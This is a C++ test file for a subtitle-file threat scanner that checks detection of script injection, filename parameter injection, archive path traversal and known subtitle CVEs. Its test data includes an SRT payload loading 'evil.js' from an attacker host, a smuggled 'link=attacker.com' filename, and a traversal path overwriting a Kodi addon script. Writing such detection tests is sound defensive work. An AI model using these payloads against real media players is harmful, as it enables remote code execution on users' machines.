#include <doctest.h>

#include <json.hpp>
#include <map>

#include "corpus.hpp"
#include "gen.hpp"
#include "subguard/parsers.hpp"
#include "subguard/threatscan.hpp"
#include "zip_writer.hpp"

using namespace subguard;

namespace {

bool has_rule(const std::vector<Finding>& fs, RuleId rule, const char* cve = nullptr) {
  for (const auto& f : fs) {
    if (f.rule == rule && (!cve || f.cve == std::string(cve))) return true;
  }
  return false;
}

ArchiveEntrySummary entry(const std::string& name) {
  ArchiveEntrySummary e;
  e.raw_name = name;
  e.normalized = normalize_entry_name(name);
  return e;
}

const char* kMalicious =
    "00:00:01,000 --> 01:00:00,000\n"
    "blah blah blah <img src=\"123.123\" onerror=\"this.style.display='none';\n"
    "    script.src = 'http://attacker:1337/evil.js';\">pwn</img>\n";

}  // namespace

TEST_CASE("default severities") {
  CHECK(default_severity(RuleId::Script) == Severity::Critical);
  CHECK(default_severity(RuleId::Traversal) == Severity::Critical);
  CHECK(default_severity(RuleId::ParamInj) == Severity::High);
  CHECK(default_severity(RuleId::Hazard) == Severity::High);
  CHECK(default_severity(RuleId::ExtRes) == Severity::Medium);
  CHECK(rule_name(RuleId::ParamInj) == "T-PARAMINJ");
}

TEST_CASE("verdict follows the most severe finding") {
  testing::Gen g(8);
  const std::vector<RuleId> rules = {RuleId::Script, RuleId::ExtRes, RuleId::ParamInj, RuleId::Traversal,
                                     RuleId::Hazard};
  for (int i = 0; i < 500; ++i) {
    std::vector<Finding> fs;
    bool critical = false;
    for (int k = g.range(0, 3); k > 0; --k) {
      fs.push_back(Finding::at(g.pick(rules), "m"));
      critical |= fs.back().severity == Severity::Critical;
    }
    const auto want = critical ? Verdict::Malicious : fs.empty() ? Verdict::Clean : Verdict::Suspicious;
    REQUIRE(verdict_of(fs) == want);
  }
}

TEST_CASE("scan_document") {
  SUBCASE("PopcornTime payload") {
    const auto fs = scan_document(parse_srt(kMalicious));
    CHECK(has_rule(fs, RuleId::Script));
    CHECK(has_rule(fs, RuleId::ExtRes));
    CHECK(verdict_of(fs) == Verdict::Malicious);
    for (const auto& f : fs) {
      REQUIRE(f.location);
      CHECK(f.location->line == 2);
    }
  }
  SUBCASE("hello world") {
    CHECK(scan_document(parse_srt("1\n00:00:01,000 --> 00:00:05,000\nHello World\n\n")).empty());
  }
  SUBCASE("dangling JSS escape") {
    const auto fs = scan_document(parse_jss("0:00:01.00 0:00:02.00 x\\"));
    REQUIRE(fs.size() == 1);
    CHECK(fs[0].rule == RuleId::Hazard);
    CHECK(fs[0].cve == "CVE-2017-8311");
  }
  SUBCASE("script urls and script elements") {
    CHECK(has_rule(scan_document(parse_srt("00:00:01,000 --> 00:00:02,000\n<a href=\"javascript:x\">y</a>\n")),
                   RuleId::Script));
    // Escaped markup still reaches a browser as a tag once decoded.
    CHECK(has_rule(scan_document(parse_srt("00:00:01,000 --> 00:00:02,000\n&lt;script&gt;x&lt;/script&gt;\n")),
                   RuleId::Script));
  }
  SUBCASE("only absolute http urls count as external") {
    CHECK(scan_document(parse_srt("00:00:01,000 --> 00:00:02,000\n<img src=\"local.png\">\n")).empty());
    CHECK(has_rule(scan_document(parse_srt("00:00:01,000 --> 00:00:02,000\n<img src=\"https://x.example/a\">\n")),
                   RuleId::ExtRes));
  }
}

TEST_CASE("scan_filename") {
  CHECK(has_rule(scan_filename("Subtitles.srt&link=http://x&ID=-1"), RuleId::ParamInj));
  CHECK(scan_filename("Trolls.2016.BDRip.x264-[YTS.AG].srt").empty());
  CHECK(has_rule(scan_filename("a?b.srt"), RuleId::ParamInj));
  CHECK(has_rule(scan_filename("a%00.srt"), RuleId::ParamInj));
  CHECK(has_rule(scan_filename("a\nb.srt"), RuleId::ParamInj));
}

TEST_CASE("scan_archive") {
  CHECK(has_rule(
      scan_archive({entry("../../../../../home/user/.kodi/addons/service.subtitles.opensubtitles/service.py")}),
      RuleId::Traversal, "CVE-2017-8314"));
  CHECK(scan_archive({entry("en/movie.srt")}).empty());
  CHECK(has_rule(scan_archive({entry("/etc/cron.d/x")}), RuleId::Traversal));
  CHECK(has_rule(scan_archive({entry("a.srt&link=x")}), RuleId::ParamInj));
  auto link = entry("l");
  link.is_symlink = true;
  CHECK(has_rule(scan_archive({link}), RuleId::Hazard));
  CHECK(has_rule(scan_archive({entry("a.srt"), entry("./a.srt")}), RuleId::Hazard));
}

TEST_CASE("scan_bytes looks inside archives") {
  const auto zip = testing::make_zip({{"en/ok.srt", "1\n00:00:01,000 --> 00:00:02,000\nfine\n", true},
                                      {"en/bad.srt", kMalicious, true}});
  const auto r = scan_bytes("subs.zip", zip);
  CHECK(r.verdict == Verdict::Malicious);
  bool found = false;
  for (const auto& f : r.findings) {
    if (f.rule == RuleId::Script) {
      CHECK(f.entry == "en/bad.srt");
      found = true;
    }
  }
  CHECK(found);
  CHECK(r.scanned_bytes == zip.size());
}

TEST_CASE("scan_bytes on unknown and detect-only input") {
  const auto r = scan_bytes("notes.txt", "just text\n");
  CHECK(r.unparsed);
  CHECK(r.verdict == Verdict::Clean);
  CHECK(scan_bytes("x.ass", "[Script Info]\n").unparsed);
}

TEST_CASE("the sanitizer runs before the scan") {
  ScanOptions strict;
  strict.policy = SanitizePolicy::strict();
  CHECK(scan_bytes("m.srt", kMalicious).verdict == Verdict::Malicious);
  CHECK(scan_bytes("m.srt", kMalicious, strict).verdict == Verdict::Clean);
}

TEST_CASE("report json") {
  const auto r = scan_bytes("dir/m.srt", kMalicious);
  const auto a = report_to_json(r);
  CHECK(a == report_to_json(scan_bytes("dir/m.srt", kMalicious)));
  CHECK(a.find('\n') == std::string::npos);
  const auto j = nlohmann::ordered_json::parse(a);
  std::vector<std::string> keys;
  for (const auto& [k, v] : j.items()) keys.push_back(k);
  CHECK(keys == std::vector<std::string>{"target", "verdict", "scanned_bytes", "findings"});
  const auto& f = j["findings"][0];
  std::vector<std::string> fkeys;
  for (const auto& [k, v] : f.items()) fkeys.push_back(k);
  CHECK(fkeys == std::vector<std::string>{"rule_id", "severity", "cve", "message", "line", "byte_offset", "entry"});
  CHECK(j["verdict"] == "malicious");
  CHECK(j["scanned_bytes"] == std::string(kMalicious).size());
}

TEST_CASE("appending a cue never removes findings") {
  const std::vector<std::string> payloads = {"x",
                                             "<img src=\"http://a.example/x\">",
                                             "<b onclick=\"y\">z</b>",
                                             "<font color=\"red\"",
                                             "&lt;script&gt;",
                                             "<a href=\"javascript:1\">q</a>"};
  testing::Gen g(99);
  for (int i = 0; i < 300; ++i) {
    std::string src;
    const auto n = g.range(0, 4);
    for (std::int64_t k = 0; k < n; ++k) {
      src += "00:00:0" + std::to_string(k) + ",000 --> 00:00:0" + std::to_string(k) + ",500\n" + g.pick(payloads) +
             "\n\n";
    }
    const auto before = scan_document(parse_srt(src));
    const auto after = scan_document(parse_srt(src + "00:00:09,000 --> 00:00:09,500\n" + g.pick(payloads) + "\n"));
    std::map<std::string, int> count;
    for (const auto& f : after) ++count[std::string(rule_name(f.rule)) + f.message];
    for (const auto& f : before) REQUIRE(count[std::string(rule_name(f.rule)) + f.message]-- > 0);
  }
}

TEST_CASE("corpus verdicts") {
  const std::map<std::string, std::pair<RuleId, const char*>> expected = {
      {"Subtitles.srt&link=attacker.com%2Fevil.zip&ID=-1", {RuleId::ParamInj, nullptr}},
      {"cve_2017_8310.srt", {RuleId::Hazard, "CVE-2017-8310"}},
      {"cve_2017_8311.jss", {RuleId::Hazard, "CVE-2017-8311"}},
      {"cve_2017_8312.jss", {RuleId::Hazard, "CVE-2017-8312"}},
      {"cve_2017_8313.jss", {RuleId::Hazard, "CVE-2017-8313"}},
      {"popcorntime_malicious.srt", {RuleId::Script, nullptr}},
      {"stremio_banner.srt", {RuleId::ExtRes, nullptr}},
      {"traversal.zip", {RuleId::Traversal, "CVE-2017-8314"}},
  };
  const auto malicious = testing::corpus_files("malicious");
  REQUIRE(malicious.size() == expected.size());
  for (const auto& p : malicious) {
    CAPTURE(p.string());
    const auto r = scan_bytes(p.string(), testing::read_file(p));
    const auto& [rule, cve] = expected.at(p.filename().string());
    CHECK(r.verdict != Verdict::Clean);
    CHECK(has_rule(r.findings, rule, cve));
  }
  const auto benign = testing::corpus_files("benign");
  CHECK(benign.size() == 10);
  for (const auto& p : benign) {
    CAPTURE(p.string());
    const auto r = scan_bytes(p.string(), testing::read_file(p));
    CHECK(r.verdict == Verdict::Clean);
    CHECK(r.findings.empty());
    CHECK_FALSE(r.unparsed);
  }
}
